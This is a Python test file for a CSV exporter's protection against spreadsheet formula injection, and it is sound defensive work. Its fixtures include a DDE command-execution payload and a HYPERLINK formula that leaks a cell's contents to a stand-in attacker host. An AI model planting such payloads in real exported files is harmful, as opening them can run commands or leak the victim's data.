"""Cells that a spreadsheet would run are disarmed, and numbers stay numbers."""

import csv
import io
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jmmc.answers.columns import ColumnKind
from jmmc.answers.tables import CsvTable

_STARTERS = "=+-@\t\r＝＋－＠"  # noqa: RUF001 - full-width letters are what is meant.


def _cells(*values: Any) -> list[str]:
    columns = dict.fromkeys((f"c{place}" for place in range(len(values))), ColumnKind.TEXT)
    content = CsvTable(columns).add([dict(zip(columns, values, strict=True))])
    return list(csv.reader(io.StringIO(content.decode(), newline="")))[1]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\uff1d1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?"&A1,"x")',
    ],
)
def test_a_formula_is_a_text(text: str) -> None:
    (cell,) = _cells(text)
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_text_after_another_separator_is_no_formula_either(separator: str) -> None:
    (cell,) = _cells(f"room{separator}=1+1")
    assert "'=1+1" in cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-0.5, "-0.5"),
        (7, "7"),
        (None, ""),
        (True, "true"),
        ("Chrome 131", "Chrome 131"),
    ],
)
def test_numbers_and_harmless_texts_are_unchanged(value: Any, cell: str) -> None:
    assert _cells(value) == [cell]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n;,\"' a1＝＠"), max_size=12))  # noqa: RUF001
def test_no_text_becomes_a_formula_wherever_a_spreadsheet_cuts(text: str) -> None:
    content = (
        CsvTable(dict.fromkeys("abc", ColumnKind.TEXT))
        .add([{"a": "x", "b": text, "c": "y"}])
        .decode()
    )
    for delimiter in (",", ";", "\t"):
        rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
        for cell in (item for row in rows for item in row):
            assert not cell.lstrip().startswith(tuple(_STARTERS)), (text, delimiter)
